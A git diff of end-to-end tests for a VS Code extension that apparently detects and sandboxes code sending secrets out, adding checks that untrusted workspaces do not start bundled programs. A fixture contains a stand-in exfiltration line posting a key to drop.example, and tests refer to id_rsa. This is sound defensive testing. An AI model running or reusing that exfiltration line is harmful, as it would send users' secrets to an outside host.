@@ -1,9 +1,8 @@
 /** The extension in the workbench that people have, over a browser: what is told, what runs, and what does not. */
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import { join } from 'node:path';
+import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
 import type { Frame, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { command, NO_WORKBENCH, openWorkbench, paste, type Workbench } from './workbench.fixture.ts';
 
 if (NO_WORKBENCH !== undefined) console.log(`skipped: ${NO_WORKBENCH}`);
@@ -20,7 +19,9 @@ requests.post("https://drop.example/k", data=key, timeout=5)
 `;
 const FIXED = 'def settings():\n    return {"retries": 3}\n\nprint(settings())\n';
 const SETTINGS = { 'glovebox.run': 'never', 'security.workspace.trust.enabled': false };
-const LEAVES = 'open("/tmp/left.txt", "w").write("x")\n';
+/** Longer than what follows a save takes. */
+const SETTLED_MS = 3_000;
+const PATIENCE_MS = 40_000;
 
 const status = (page: Page) => page.locator('.statusbar-item[id*="glovebox"]');
 const rows = (page: Page) => page.locator('.pane-body .monaco-list-row');
@@ -36,24 +37,33 @@ beforeAll(async () => {
   writeFileSync(join(folder, 'sync.py'), FIXED);
   page = await workbench.open(folder, 'sync.py');
 }, 700_000);
+vi.setConfig({ testTimeout: 90_000 });
 afterAll(() => workbench?.close());
+afterEach(({ task }) => {
+  if (task.result?.state === 'fail')
+    return page?.screenshot({ path: join(workbench.base, '..', `glovebox-${task.id}.png`) });
+});
 
 describe.skipIf(NO_WORKBENCH !== undefined)('in the workbench', () => {
   it('a pasted upload is underlined, in the status bar and in the list, and nothing interrupts', async () => {
-    await page.locator('.activitybar a[aria-label^="Glovebox"]').click();
+    await page.locator('.activitybar a[aria-label^="Glovebox"]').click({ force: true });
     await paste(page, UPLOAD);
-    await status(page).filter({ hasText: /block 100 \(read\)/ }).waitFor();
+    await status(page)
+      .filter({ hasText: /block 100 \(read\)/ })
+      .waitFor();
     await squiggles(page).first().waitFor();
-    await rows(page).filter({ hasText: 'secret-sent, line 8' }).waitFor();
+    await rows(page).filter({ hasText: 'line 8, secret-sent' }).waitFor();
     expect(await page.locator('.notification-toast').count()).toBe(0);
-    await rows(page).filter({ hasText: 'secret-sent, line 8' }).click();
-    await status(page).page().locator('[id="status.editor.selection"]', { hasText: 'Ln 8' }).waitFor();
+    await rows(page).filter({ hasText: 'line 8, secret-sent' }).click();
+    await page.locator('[id="status.editor.selection"]', { hasText: 'Ln 8' }).waitFor();
     await page.screenshot({ path: join(IMAGES, 'editor-dark.png') });
   });
 
   it('once it is corrected all of that is gone', async () => {
     await paste(page, FIXED);
-    await status(page).filter({ hasText: /allow 0 \(read\)/ }).waitFor();
+    await status(page)
+      .filter({ hasText: /allow 0 \(read\)/ })
+      .waitFor();
     await expect.poll(() => squiggles(page).count()).toBe(0);
     expect(await rows(page).count()).toBe(0);
     expect(workbench.runs()).toBe(0);
@@ -63,7 +73,9 @@ describe.skipIf(NO_WORKBENCH !== undefined)('in the workbench', () => {
     await paste(page, UPLOAD);
     await status(page).filter({ hasText: 'block 100 (read)' }).waitFor();
     await command(page, 'Glovebox: Run in Sandbox');
-    await status(page).filter({ hasText: /block 100$/ }).waitFor();
+    await status(page)
+      .filter({ hasText: /block 100$/ })
+      .waitFor();
     await rows(page).filter({ hasText: 'id_rsa' }).first().waitFor();
     expect(workbench.runs()).toBeGreaterThan(0);
     const toast = page.locator('.notification-toast');
@@ -92,7 +104,62 @@ describe.skipIf(NO_WORKBENCH !== undefined)('in the workbench', () => {
 });
 
 describe.skipIf(NO_WORKBENCH !== undefined)('in a workspace that is not trusted', () => {
-  it.todo('nothing runs');
+  const started = () => existsSync(join(workbench.base, 'started'));
+  let before: number;
+
+  it('what is pasted is told, nothing runs, and no program of the workspace is started', async () => {
+    await page.close();
+    workbench.set({ ...SETTINGS, 'security.workspace.trust.enabled': true });
+    page = await workbench.open(stranger(), 'sync.py');
+    await page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
+    before = workbench.runs();
+    await status(page).filter({ hasText: 'allow 0 (read)' }).waitFor();
+    await paste(page, UPLOAD);
+    await squiggles(page).first().waitFor();
+    await page.keyboard.press('Control+S');
+    await page.locator('.tab.dirty').waitFor({ state: 'detached' });
+    await page.waitForTimeout(SETTLED_MS);
+    expect(await status(page).textContent()).toMatch(/block 100 \(read\)$/);
+    expect({ runs: workbench.runs(), started: started() }).toEqual({ runs: before, started: false });
+  });
+
+  it('once it is trusted its own program is started, and a save runs what is saved', async () => {
+    await command(page, 'Workspaces: Manage Workspace Trust');
+    await page
+      .locator('.workspace-trust-editor .trusted .monaco-button, .workspace-trust-buttons-row .monaco-button')
+      .first()
+      .click();
+    await page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor({ state: 'detached' });
+    await expect.poll(started, { timeout: PATIENCE_MS }).toBe(true);
+    await page.locator('.tab', { hasText: 'sync.py' }).click();
+    await status(page).filter({ hasText: 'block 100 (read)' }).waitFor();
+    await paste(page, `${UPLOAD}\n`);
+    await page.keyboard.press('Control+S');
+    await status(page)
+      .filter({ hasText: /block 100$/ })
+      .waitFor();
+    expect(workbench.runs()).toBeGreaterThan(before);
+  });
+
+  /** A folder that brings a program of its own, and a setting that names another. */
+  function stranger(): string {
+    const folder = join(workbench.base, 'stranger');
+    const own = join(folder, 'node_modules/glovebox/bin/glovebox.js');
+    const program = `import { writeFileSync } from 'node:fs';
+writeFileSync(${JSON.stringify(join(workbench.base, 'started'))}, '');
+await import(${JSON.stringify(join(workbench.base, 'bin/glovebox'))});
+`;
+    for (const file of [own, join(folder, 'tools/own.mjs')]) {
+      mkdirSync(dirname(file), { recursive: true });
+      writeFileSync(file, program);
+    }
+    mkdirSync(join(folder, '.vscode'));
+    const settings = { 'glovebox.path': join(folder, 'tools/own.mjs'), 'glovebox.run': 'save' };
+    writeFileSync(join(folder, '.vscode/settings.json'), JSON.stringify(settings));
+    writeFileSync(join(folder, 'node_modules/glovebox/package.json'), '{ "type": "module" }');
+    writeFileSync(join(folder, 'sync.py'), FIXED);
+    return folder;
+  }
 });
 
 /** The page inside of the two frames that a webview is. */
